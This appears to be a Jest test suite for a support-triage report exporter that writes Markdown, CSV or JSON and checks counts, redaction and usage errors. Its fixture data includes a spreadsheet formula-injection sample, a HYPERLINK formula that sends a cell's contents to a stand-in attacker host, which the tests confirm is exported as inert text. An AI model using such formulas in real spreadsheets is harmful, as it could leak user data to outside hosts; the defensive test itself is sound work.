// npm run report: the export reads the configured store and writes Markdown, CSV or JSON.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { openSqliteInsightStore } from '../../src/insights/sqlite-insight-store';
import type { TriageEvent } from '../../src/insights/types';

jest.setTimeout(60_000);

const ROOT = resolve(__dirname, '../..');
let dir: string;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'report-export-'));
  const store = openSqliteInsightStore(join(dir, 'insights.sqlite'));
  const at = Date.now() - 3_600_000;
  const e = (kind: TriageEvent['kind'], fields: Partial<TriageEvent> = {}): TriageEvent => ({ at, kind, triage: 'c/t1', user: 'u1', ...fields });
  await store.append(
    [e('started'), e('identified', { code: '0x800B0004', article: 'trust-subject-not-trusted' }), e('outcome', { at: at + 120_000, article: 'trust-subject-not-trusted', cause: 'revocation-check-blocked', outcome: 'fixed' }), e('unmatched', { triage: '', user: 'u2', gap: 'text:printer, noise' }), e('unmatched', { triage: '', user: 'u3', gap: '-2+3' })],
    [{ gap: 'text:printer, noise', sample: 'the "printer", noise on [host]', at }, { gap: '-2+3', sample: '=HYPERLINK("https://evil.example/?"&A1,"details")', at }],
  );
  await store.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function run(...args: string[]) {
  const env = { ...process.env, STORAGE: 'sqlite', DATA_DIR: dir };
  return spawnSync(process.execPath, ['--import', 'tsx', 'scripts/report.ts', ...args], { cwd: ROOT, env, encoding: 'utf8' });
}

test('Markdown by default: the figures, the named error and the redacted gap sample', () => {
  const r = run('--since', '7d');
  expect(r.status).toBe(0);
  expect(r.stdout).toContain('| triages started | 1 |');
  expect(r.stdout).toContain('| 0x800B0004 TRUST_E_SUBJECT_NOT_TRUSTED | 1 | 1 | 100% |');
  expect(r.stdout).toContain('| text:printer, noise | 1 | 1 | the "printer", noise on [host] |');
});

test('CSV for a spreadsheet, quoting what needs quoting; JSON with the same numbers', () => {
  const csv = run('--since', '30d', '--format', 'csv');
  expect(csv.stdout.split('\r\n')).toEqual(expect.arrayContaining(['section,item,count,users,rate,detail', 'summary,started,1,,,', 'knowledge gap,"text:printer, noise",1,1,,"the ""printer"", noise on [host]"']));
  // A paste that a spreadsheet would run as a formula is exported as text.
  expect(csv.stdout.split('\r\n')).toContain('knowledge gap,\'-2+3,1,1,,"\'=HYPERLINK(""https://evil.example/?""&A1,""details"")"');
  expect(csv.stdout).not.toMatch(/(^|,)"?[=+\-@]/m);
  const json = JSON.parse(run('--since=1d', '--format=json').stdout) as { fixed: number; deflection: number };
  expect(json).toMatchObject({ fixed: 1, deflection: 1 });
});

test('a bad period or format prints the usage and exits 2', () => {
  const r = run('--since', '9999d');
  expect(r.status).toBe(2);
  expect(r.stderr).toContain('usage: npm run report');
  expect(run('--format', 'xlsx').status).toBe(2);
});
